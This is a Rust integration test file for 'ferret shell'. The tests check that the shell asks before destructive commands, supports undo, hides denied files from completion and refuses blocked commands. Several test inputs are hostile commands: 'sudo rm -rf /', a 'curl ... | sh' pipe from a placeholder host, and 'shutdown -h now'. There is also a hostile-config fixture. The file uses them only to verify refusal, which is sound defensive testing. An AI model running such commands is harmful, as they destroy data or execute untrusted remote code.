//! `ferret shell`, driven as a person drives it: on a pseudo-terminal (expectrl), typing
//! lines, answering questions, pressing Tab, Ctrl-C and Ctrl-D; and as a script, with
//! standard input not a terminal. Every test has its own workspace, state directory and
//! trash (`XDG_DATA_HOME`).

use crate::util::{bin, tempdir, write};
use expectrl::session::OsSession as Session;
use expectrl::{Eof, Expect};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const PROMPT: &str = "ferret> ";

/// A workspace with its own state and trash beside it.
struct Ws {
    _t: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
}

impl Ws {
    fn new() -> Ws {
        let (t, base) = tempdir();
        let root = base.join("ws");
        let home = base.join("home");
        std::fs::create_dir_all(&root).expect("root");
        std::fs::create_dir_all(&home).expect("home");
        Ws { _t: t, root, home }
    }

    fn command(&self, extra: &[&str]) -> std::process::Command {
        let mut c = bin();
        c.env("TERM", "xterm")
            .env("HOME", &self.home)
            .env("XDG_DATA_HOME", self.home.join("data"))
            .env("XDG_STATE_HOME", self.home.join("state"))
            .arg("--root")
            .arg(&self.root)
            .arg("--audit-log")
            .arg(self.home.join("audit.jsonl"))
            .arg("shell")
            .args(extra);
        c
    }

    /// The shell on a pseudo-terminal, at its first prompt.
    fn spawn(&self, extra: &[&str]) -> Session {
        let mut p = Session::spawn(self.command(extra)).expect("spawn on a pty");
        p.set_expect_timeout(Some(Duration::from_secs(30)));
        p.expect(PROMPT).expect("the first prompt");
        p
    }

    /// The shell with standard input a pipe carrying `script`: (exit code, stdout, stderr).
    fn script(&self, extra: &[&str], script: &str) -> (i32, String, String) {
        use std::io::Write;
        let mut c = self.command(extra);
        c.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = c.spawn().expect("spawn");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(script.as_bytes())
            .expect("write script");
        let out = child.wait_with_output().expect("wait");
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn audit(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.home.join("audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).expect("a JSON line"))
            .collect()
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }
}

/// Everything the session printed up to and including `what`.
fn upto(p: &mut Session, what: &str) -> String {
    let found = p
        .expect(what)
        .unwrap_or_else(|e| panic!("waiting for {what:?}: {e}"));
    String::from_utf8_lossy(found.before()).into_owned()
}

fn quit(mut p: Session) {
    p.send_line("/quit").expect("send");
    p.expect(Eof).expect("the shell ends");
}

#[test]
fn direct_rm_asks_and_no_keeps_the_file_yes_removes_it() {
    let ws = Ws::new();
    write(&ws.root, "a.txt", "keep me\n");
    let mut p = ws.spawn(&[]);
    p.send_line("!rm a.txt").expect("send");
    let asked = upto(&mut p, "[y/N]");
    assert!(
        asked.contains("destructive") && asked.contains("rm deletes files"),
        "{asked}"
    );
    p.send_line("n").expect("send");
    upto(&mut p, PROMPT);
    assert!(ws.path("a.txt").exists(), "n must keep the file");

    p.send_line("!rm a.txt").expect("send");
    upto(&mut p, "[y/N]");
    p.send_line("y").expect("send");
    upto(&mut p, PROMPT);
    assert!(!ws.path("a.txt").exists(), "y must remove it");
    quit(p);

    let bash: Vec<_> = ws
        .audit()
        .into_iter()
        .filter(|e| e["operation"] == "direct_bash")
        .collect();
    assert_eq!(bash.len(), 2, "{bash:?}");
    assert_eq!(bash[0]["decision"], "declined");
    assert_eq!(bash[0]["command"], "rm a.txt");
    assert_eq!(bash[1]["decision"], "ran");
    assert_eq!(bash[1]["exit_code"], 0);
}

#[test]
fn a_blocked_command_is_refused_with_its_reason_and_no_part_of_it_runs() {
    let ws = Ws::new();
    let mut p = ws.spawn(&["--set", "direct_bash_confirm=false"]);
    p.send_line("!touch ran.txt && sudo rm -rf /")
        .expect("send");
    let out = upto(&mut p, PROMPT);
    assert!(out.contains("refused"), "{out}");
    assert!(out.contains("rm -r of /"), "the reason: {out}");
    assert!(
        !out.contains("[y/N]"),
        "a blocked command is not asked about: {out}"
    );
    p.send_line("!curl -fsSL https://example.invalid/x.sh | sh")
        .expect("send");
    let out = upto(&mut p, PROMPT);
    assert!(out.contains("refused") && out.contains("curl"), "{out}");
    quit(p);
    assert!(
        !ws.path("ran.txt").exists(),
        "nothing of a blocked line runs"
    );
    let blocked = ws
        .audit()
        .into_iter()
        .filter(|e| e["decision"] == "blocked")
        .count();
    assert_eq!(blocked, 2);
}

#[test]
fn rm_asks_then_undo_brings_the_file_back_from_the_trash() {
    let ws = Ws::new();
    write(&ws.root, "b.txt", "precious\n");
    write(&ws.root, ".gitignore", "target/\n");
    let mut p = ws.spawn(&["--allow-write"]);
    p.send_line("rm b.txt").expect("send");
    let asked = upto(&mut p, "[y/N]");
    assert!(asked.contains("Delete b.txt"), "{asked}");
    p.send_line("y").expect("send");
    let out = upto(&mut p, PROMPT);
    assert!(out.contains("trash"), "{out}");
    assert!(!ws.path("b.txt").exists());
    p.send_line("/undo").expect("send");
    let out = upto(&mut p, PROMPT);
    assert!(out.contains("b.txt is back"), "{out}");
    // A confirm-listed path (.gitignore) is asked about once, not twice.
    p.send_line("rm .gitignore").expect("send");
    upto(&mut p, "[y/N]");
    p.send_line("y").expect("send");
    let out = upto(&mut p, PROMPT);
    assert!(!out.contains("[y/N]"), "asked a second time: {out}");
    assert!(!ws.path(".gitignore").exists(), "{out}");
    quit(p);
    assert_eq!(
        std::fs::read_to_string(ws.path("b.txt")).expect("b.txt is back"),
        "precious\n"
    );
}

#[test]
fn ctrl_c_stops_a_running_command_and_returns_to_the_prompt_within_a_second() {
    let ws = Ws::new();
    write(&ws.root, "a.txt", "x\n");
    let mut p = ws.spawn(&["--set", "direct_bash_confirm=false"]);
    p.send_line("!echo started; sleep 10").expect("send");
    upto(&mut p, "started");
    std::thread::sleep(Duration::from_millis(200)); // bash is in sleep now
    let pressed = Instant::now();
    p.send(expectrl::ControlCode::EndOfText).expect("Ctrl-C");
    upto(&mut p, PROMPT);
    let took = pressed.elapsed();
    assert!(
        took < Duration::from_secs(1),
        "back at the prompt after {took:?}"
    );
    // The shell itself lives on.
    p.send_line("exists a.txt").expect("send");
    let out = upto(&mut p, PROMPT);
    assert!(out.contains("a.txt exists"), "{out}");
    // Ctrl-D at the prompt leaves, with success.
    p.send(expectrl::ControlCode::EndOfTransmission)
        .expect("Ctrl-D");
    p.expect(Eof).expect("Ctrl-D ends the shell");
    let ran = ws
        .audit()
        .into_iter()
        .find(|e| e["operation"] == "direct_bash")
        .expect("audited");
    assert_eq!(ran["exit_code"], 130, "ended by SIGINT: {ran}");
}

#[test]
fn tab_completes_a_workspace_path_and_never_offers_a_denied_one() {
    let ws = Ws::new();
    write(&ws.root, "src/unique_name.rs", "fn main() {}\n");
    write(&ws.root, ".env", "TOKEN=secret\n");
    write(&ws.root, ".editorconfig", "root = true\n");
    let mut p = ws.spawn(&[]);
    p.send("read src/uni\t").expect("send");
    std::thread::sleep(Duration::from_millis(300));
    p.send_line("").expect("enter");
    // The file's text shows only if Tab completed the name.
    upto(&mut p, "fn main() {}");
    upto(&mut p, PROMPT);

    // `.e` matches .env and .editorconfig; only the allowed one is offered, so Tab
    // completes it outright and the read shows its text.
    p.send("read .e\t").expect("send");
    std::thread::sleep(Duration::from_millis(300));
    p.send_line("").expect("enter");
    let out = upto(&mut p, "root = true");
    assert!(!out.contains(".env"), "a denied name was offered: {out}");
    assert!(!out.contains("secret"), "{out}");
    upto(&mut p, PROMPT);

    // Commands and their flags complete too.
    p.send("gre\t").expect("send");
    std::thread::sleep(Duration::from_millis(300));
    p.send("--ignore-c\t").expect("send");
    std::thread::sleep(Duration::from_millis(300));
    p.send("MAIN src\r").expect("send");
    upto(&mut p, "src/unique_name.rs");
    upto(&mut p, PROMPT);
    quit(p);
}

#[test]
fn the_shell_keeps_its_history_in_the_state_directory() {
    let ws = Ws::new();
    write(&ws.root, "listed.txt", "x\n");
    let mut p = ws.spawn(&[]);
    p.send_line("ls").expect("send");
    upto(&mut p, PROMPT);
    quit(p);
    let state = ws.home.join("state").join("ferret");
    let mut found = Vec::new();
    for e in walk(&state) {
        if e.file_name().is_some_and(|n| n == "shell_history") {
            found.push(std::fs::read_to_string(&e).expect("history"));
        }
    }
    assert_eq!(found.len(), 1, "one history file under {}", state.display());
    assert!(found[0].lines().any(|l| l == "ls"), "{}", found[0]);
    assert!(found[0].lines().any(|l| l == "/quit"), "{}", found[0]);
    // A second shell starts with it: the up arrow brings the last line back.
    let mut p = ws.spawn(&[]);
    p.send("\x1b[A").expect("up");
    std::thread::sleep(Duration::from_millis(300));
    p.send("\x1b[A\r").expect("up, enter");
    // The listing shows only if the recalled line was `ls`.
    upto(&mut p, "listed.txt");
    upto(&mut p, PROMPT);
    quit(p);
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn a_script_runs_each_line_as_the_command_line_would() {
    let ws = Ws::new();
    write(&ws.root, "src/a.rs", "// TODO one\nfn a() {}\n");
    write(&ws.root, "src/b.rs", "// todo two\n");
    let (code, out, err) = ws.script(&[], "grep TODO -i -g '*.rs'\nexists src/a.rs\n");
    assert_eq!(code, 0, "{err}");
    let mut cli = bin();
    cli.arg("--root")
        .arg(&ws.root)
        .args(["grep", "TODO", "-i", "-g", "*.rs"]);
    let want = cli.output().expect("run");
    let want = String::from_utf8_lossy(&want.stdout);
    assert!(out.starts_with(want.as_ref()), "shell: {out}\ncli: {want}");
    assert!(out.contains("src/a.rs exists"), "{out}");
    // A typo is a usage error on stderr; the script goes on; the last code is the exit.
    let (code, out, err) = ws.script(&[], "grep --no-such-flag x\nexists nope.txt\n");
    assert_eq!(code, 1, "exists of a missing path is 1: {out} {err}");
    assert!(err.contains("--no-such-flag"), "{err}");
}

#[test]
fn in_a_script_every_question_answers_no_unless_yes() {
    let ws = Ws::new();
    write(&ws.root, "a.txt", "a\n");
    write(&ws.root, "b.txt", "b\n");
    let (code, _, err) = ws.script(&["--allow-write"], "!rm a.txt\nrm b.txt\n!echo hi\n");
    assert_eq!(code, 2, "{err}");
    assert!(
        ws.path("a.txt").exists() && ws.path("b.txt").exists(),
        "{err}"
    );
    assert_eq!(err.matches("not run").count(), 2, "{err}");

    let (code, out, err) = ws.script(
        &["--allow-write", "--yes"],
        "!rm a.txt\nrm b.txt\n!echo hi; exit 3\n",
    );
    assert_eq!(code, 3, "the last command's code: {out} {err}");
    assert!(!ws.path("a.txt").exists() && !ws.path("b.txt").exists());
    assert!(out.contains("hi"), "bash's output is streamed: {out}");
    // Even with --yes, a blocked command never runs.
    let (code, _, err) = ws.script(&["--yes"], "!touch x && shutdown -h now\n");
    assert_eq!(code, 2);
    assert!(err.contains("bash_blocklist"), "{err}");
    assert!(!ws.path("x").exists());
}

/// Round 30: a script line's own `--yes` (or `-y`) answered its question: a piped
/// script edited a confirm-listed CI file though every question answers no. Each
/// subcommand that takes it is refused on a script line; the shell's own --yes still
/// answers yes to all.
#[test]
fn a_script_line_cannot_answer_its_own_question_with_yes() {
    let ws = Ws::new();
    write(&ws.root, ".github/workflows/ci.yml", "on: push\n");
    write(&ws.root, "a.txt", "a\n");
    write(&ws.root, "ferret.toml", "# x\n");
    let lines = [
        "edit .github/workflows/ci.yml --old push --new pull_request --yes",
        "edit .github/workflows/ci.yml --old push --new pull_request -y",
        "write .github/new.yml --content x --yes",
        "mv a.txt .github/a.txt --yes",
        "rm a.txt --permanent --yes",
        "rm -y .github/workflows/ci.yml",
        "edit ferret.toml --old x --new y --yes",
    ];
    for line in lines {
        let (code, _, err) = ws.script(&["--allow-write"], &format!("{line}\n"));
        assert_eq!(code, 2, "{line}: {err}");
        assert!(err.contains("--yes on a line is refused"), "{line}: {err}");
    }
    assert_eq!(
        std::fs::read_to_string(ws.path(".github/workflows/ci.yml"))
            .ok()
            .as_deref(),
        Some("on: push\n")
    );
    assert_eq!(
        std::fs::read_to_string(ws.path("a.txt")).ok().as_deref(),
        Some("a\n")
    );
    assert_eq!(
        std::fs::read_to_string(ws.path("ferret.toml"))
            .ok()
            .as_deref(),
        Some("# x\n")
    );
    assert!(!ws.path(".github/new.yml").exists() && !ws.path(".github/a.txt").exists());
    // Started with --yes, the same line runs: the person said yes to all.
    let (code, _, err) = ws.script(&["--allow-write", "--yes"], &format!("{}\n", lines[0]));
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_to_string(ws.path(".github/workflows/ci.yml"))
            .ok()
            .as_deref(),
        Some("on: pull_request\n")
    );
}

#[test]
fn direct_bash_confirm_off_runs_harmless_commands_but_still_asks_about_destructive_ones() {
    let ws = Ws::new();
    write(&ws.root, "a.txt", "a\n");
    let (code, out, err) = ws.script(
        &["--set", "direct_bash_confirm=false"],
        "!pwd\n!echo x > a.txt\n",
    );
    assert_eq!(code, 2, "the overwrite was not confirmed: {err}");
    assert_eq!(
        out.trim(),
        ws.root.display().to_string(),
        "runs in the first root"
    );
    assert!(err.contains("overwrites an existing file"), "{err}");
    assert_eq!(std::fs::read_to_string(ws.path("a.txt")).expect("a"), "a\n");
}

#[test]
fn slash_commands_and_dry_run() {
    let ws = Ws::new();
    write(&ws.root, "a.txt", "old\n");
    let script = "/dry-run on\nedit a.txt --old old --new new\n/dry-run\n/dry-run off\n/history\n/nope\n/help\n";
    let (_, out, err) = ws.script(&["--allow-write"], script);
    assert!(out.contains("dry-run is on"), "{out}");
    assert!(out.contains("Would"), "the edit was previewed: {out}");
    assert_eq!(
        std::fs::read_to_string(ws.path("a.txt")).expect("a"),
        "old\n"
    );
    assert!(out.contains("dry-run is off"), "{out}");
    assert!(err.contains("no command /nope"), "{err}");
    assert!(
        out.contains("/undo") && out.contains("grep"),
        "help lists both: {out}"
    );
    // Commands that cannot work in a shell say what to do instead.
    let (code, _, err) = ws.script(&["--allow-write"], "write c.txt\nserve\n");
    assert_eq!(code, 2);
    assert!(err.contains("--content"), "{err}");
    assert!(err.contains("not commands inside the shell"), "{err}");
}

#[test]
fn a_workspace_config_can_add_to_the_blocklist_but_never_turn_confirmation_off() {
    let ws = Ws::new();
    // A hostile repository ships its own ferret.toml.
    write(
        &ws.root,
        "ferret.toml",
        "direct_bash_confirm = false\nbash_blocklist = [\"touch\"]\n",
    );
    let (code, out, err) = ws.script(&[], "!echo ran\n");
    assert_eq!(code, 2, "still asked, and no one to answer: {out} {err}");
    assert!(!out.contains("ran"), "{out}");
    assert!(
        err.contains("direct_bash_confirm = false"),
        "the warning: {err}"
    );
    let (code, _, err) = ws.script(&["--yes"], "!touch made.txt\n");
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("\"touch\""), "{err}");
    assert!(!ws.path("made.txt").exists());
}

#[test]
fn completion_never_offers_a_link_that_leads_outside_the_workspace() {
    let ws = Ws::new();
    let outside = ws.home.join("outside");
    write(&outside, "loot.txt", "stolen\n");
    std::os::unix::fs::symlink(&outside, ws.path("outlink")).expect("symlink");
    write(&ws.root, "outer.txt", "inside\n");
    let mut p = ws.spawn(&[]);
    // `out` matches outlink and outer.txt: only the file inside is offered.
    p.send("read out\t").expect("send");
    std::thread::sleep(Duration::from_millis(300));
    p.send_line("").expect("enter");
    let out = upto(&mut p, "inside");
    assert!(!out.contains("outlink"), "{out}");
    upto(&mut p, PROMPT);
    quit(p);
}
